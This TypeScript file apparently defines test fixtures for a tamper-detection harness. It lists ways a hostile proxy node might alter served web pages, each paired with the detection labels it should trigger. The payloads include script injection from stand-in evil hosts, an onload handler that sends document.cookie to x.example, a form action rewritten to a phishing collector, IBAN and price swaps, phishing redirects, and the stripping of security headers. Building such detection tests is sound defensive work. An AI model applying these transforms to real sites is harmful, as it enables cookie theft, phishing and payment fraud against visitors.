import { swappedPng } from '../origin/assets.js';
import { carefulKinds } from './careful-kinds.js';
import { htmlEdit, isHtml, withBody, withoutHeaders, type CapturedResponse, type TamperKind } from './types.js';

// The visible tamper corpus: each kind is one thing a hostile node might do to what visitors see.

const beforeHeadEnd = (snippet: string) => (html: string) => html.replace('</head>', `${snippet}\n</head>`);
const afterMainStart = (snippet: string) => (html: string) => html.replace('<main>', `<main>\n${snippet}`);
const beforeBodyEnd = (snippet: string) => (html: string) => html.replace('</body>', `${snippet}\n</body>`);

function asset(path: string, edit: (body: Buffer) => Buffer): Pick<TamperKind, 'applies' | 'transform'> {
  return {
    applies: (p, res) => p.split('?')[0] === path && res.status === 200,
    transform: (res) => withBody(res, edit(res.body)),
  };
}

function kind(k: Omit<TamperKind, 'category'>): TamperKind {
  return { ...k, category: 'tamper' };
}

export const scriptInjection = kind({
  name: 'script-injection',
  description: 'adds a third-party <script src> to every page',
  samplePath: '/',
  expect: ['script_added'],
  ...htmlEdit(beforeHeadEnd('<script src="https://cdn.evil-analytics.example/t.js" async></script>')),
});

export const tamperKinds: TamperKind[] = [
  scriptInjection,
  kind({
    name: 'inline-script-injection',
    description: 'adds an inline crypto-miner script',
    samplePath: '/about',
    expect: ['script_added'],
    ...htmlEdit(beforeBodyEnd('<script>var m=new Worker("data:,");setInterval(function(){m.postMessage(Math.random())},50);</script>')),
  }),
  kind({
    name: 'iframe-injection',
    description: 'injects an advertising iframe',
    samplePath: '/',
    expect: ['iframe_added'],
    ...htmlEdit(afterMainStart('<iframe src="https://ads.example-adnet.com/frame?slot=1" width="300" height="250"></iframe>')),
  }),
  kind({
    name: 'ad-banner',
    description: 'injects an ad banner linking and loading from an ad network',
    samplePath: '/news',
    expect: ['link_added', 'resource_added'],
    ...htmlEdit(afterMainStart('<div class="promo"><a href="https://deals.example-adnet.com/?ref=node"><img src="https://img.example-adnet.com/banner.png" alt="Deal"></a></div>')),
  }),
  kind({
    name: 'link-rewrite',
    description: 'rewrites the products links to a clone shop',
    samplePath: '/',
    expect: ['link_changed', 'link_added'],
    ...htmlEdit((h) => h.replaceAll('href="/products"', 'href="https://shop-clone.example/products"')),
  }),
  kind({
    name: 'form-action-rewrite',
    description: 'sends the contact form to a collector',
    samplePath: '/contact',
    expect: ['form_changed'],
    ...htmlEdit((h) => h.replace('action="/contact"', 'action="https://collect.example-phish.com/submit"')),
  }),
  kind({
    name: 'text-change',
    description: 'rewrites the anti-phishing notice',
    samplePath: '/',
    expect: ['text_changed'],
    ...htmlEdit((h) => h.replace('We will never ask for your password by e-mail. Pay only on this site.', 'Please confirm your password by e-mail to support@shop-help.example.')),
  }),
  kind({
    name: 'number-change',
    description: 'changes the bank account number and a price',
    samplePath: '/products',
    expect: ['text_changed'],
    ...htmlEdit((h) => h.replace('DE44 5001 0517 5407 3249 31', 'GB29 NWBK 6016 1331 9268 19').replace('€59.90', '€95.90')),
  }),
  kind({
    name: 'content-removal',
    description: 'removes the security notice',
    samplePath: '/',
    expect: ['text_removed'],
    ...htmlEdit((h) => h.replace(/<p class="notice">[^<]*<\/p>/, '')),
  }),
  kind({
    name: 'image-src-swap',
    description: 'points the hero image at another host',
    samplePath: '/',
    expect: ['resource_changed', 'resource_added'],
    ...htmlEdit((h) => h.replace('src="/static/hero.png"', 'src="https://img.example-adnet.com/hero.png"')),
  }),
  kind({
    name: 'image-bytes-swap',
    description: 'serves different bytes for the hero image',
    samplePath: '/',
    expect: ['subresource_changed'],
    ...asset('/static/hero.png', () => swappedPng),
  }),
  kind({
    name: 'css-hiding',
    description: 'hides the security notice with an injected style block',
    samplePath: '/',
    expect: ['style_added'],
    ...htmlEdit(beforeHeadEnd('<style>.notice{display:none!important}</style>')),
  }),
  kind({
    name: 'stylesheet-tamper',
    description: 'appends a rule hiding the notice to the site stylesheet',
    samplePath: '/',
    expect: ['subresource_changed'],
    ...asset('/static/site.css', (b) => Buffer.concat([b, Buffer.from('\n.notice { display: none; }\n')])),
  }),
  kind({
    name: 'script-file-tamper',
    description: 'appends code to the site script that rewrites prices after load',
    samplePath: '/products',
    expect: ['subresource_changed'],
    ...asset('/static/app.js', (b) => Buffer.concat([b, Buffer.from("\nsetTimeout(function(){document.querySelectorAll('.price').forEach(function(e){e.textContent='€1.00'})},10);\n")])),
  }),
  kind({
    name: 'dom-after-load',
    description: 'inline script that swaps the IBAN after the page loaded',
    samplePath: '/products',
    expect: ['script_added'],
    ...htmlEdit(beforeBodyEnd("<script>addEventListener('load',function(){document.querySelectorAll('.notice').forEach(function(e){e.textContent=e.textContent.replace(/DE44[0-9 ]+/,'GB29 NWBK 6016 1331 9268 19')})})</script>")),
  }),
  kind({
    name: 'script-src-swap',
    description: 'loads the site script from another host',
    samplePath: '/',
    expect: ['script_changed', 'script_added', 'script_removed'],
    ...htmlEdit((h) => h.replace('src="/static/app.js"', 'src="https://cdn.evil.example/app.js"')),
  }),
  kind({
    name: 'event-handler-injection',
    description: 'adds an onload handler to <body> and onclick handlers to links',
    samplePath: '/',
    expect: ['handler_added'],
    ...htmlEdit((h) => h.replace('<body>', '<body onload="fetch(\'https://x.example/\'+document.cookie)">').replaceAll('<a href="/news"', '<a onclick="location=\'https://x.example\'" href="/news"')),
  }),
  kind({
    name: 'object-embed',
    description: 'embeds a plugin object from another host',
    samplePath: '/about',
    expect: ['object_added'],
    ...htmlEdit(afterMainStart('<object data="https://evil.example/payload.swf" type="application/x-shockwave-flash"></object>')),
  }),
  kind({
    name: 'meta-refresh',
    description: 'adds a meta refresh to a phishing page',
    samplePath: '/',
    expect: ['meta_refresh_added'],
    ...htmlEdit(beforeHeadEnd('<meta http-equiv="refresh" content="3;url=https://phish.example/login">')),
  }),
  kind({
    name: 'redirect',
    description: 'answers pages with a redirect to another site',
    samplePath: '/about',
    expect: ['status_changed', 'redirect_changed'],
    applies: (_p, res) => isHtml(res),
    transform: () => ({ status: 302, headers: [['location', 'https://phish.example/login'], ['content-length', '0']], body: Buffer.alloc(0) }),
  }),
  kind({
    name: 'header-set-cookie',
    description: 'sets a tracking cookie on public pages',
    samplePath: '/',
    expect: ['set_cookie_added'],
    applies: (_p, res) => isHtml(res),
    transform: (res): CapturedResponse => ({ ...res, headers: [...res.headers, ['set-cookie', 'trk=node-42; Path=/; Max-Age=31536000']] }),
  }),
  kind({
    name: 'header-security-weakened',
    description: 'drops CSP and X-Frame-Options, sets HSTS max-age=0 and CORS *',
    samplePath: '/',
    expect: ['security_header_changed'],
    applies: (_p, res) => isHtml(res),
    transform: (res): CapturedResponse => ({
      ...res,
      headers: [...withoutHeaders(res, ['content-security-policy', 'x-frame-options', 'strict-transport-security']), ['strict-transport-security', 'max-age=0'], ['access-control-allow-origin', '*']],
    }),
  }),
  kind({
    name: 'csp-stripped-injection',
    description: 'drops the CSP so that an injected third-party script really runs',
    samplePath: '/',
    expect: ['script_added', 'security_header_changed'],
    applies: (_p, res) => isHtml(res),
    transform: (res, ctx) => {
      const injected = scriptInjection.transform(res, ctx);
      return { ...injected, headers: withoutHeaders(injected, ['content-security-policy']) };
    },
  }),
  kind({
    name: 'intermittent-injection',
    description: 'injects a third-party script into 30% of pages only',
    samplePath: '/news',
    expect: ['script_added'],
    applies: (_p, res) => isHtml(res),
    transform: (res, ctx) => (ctx.random() < 0.3 ? scriptInjection.transform(res, ctx) : res),
  }),
  ...carefulKinds,
];

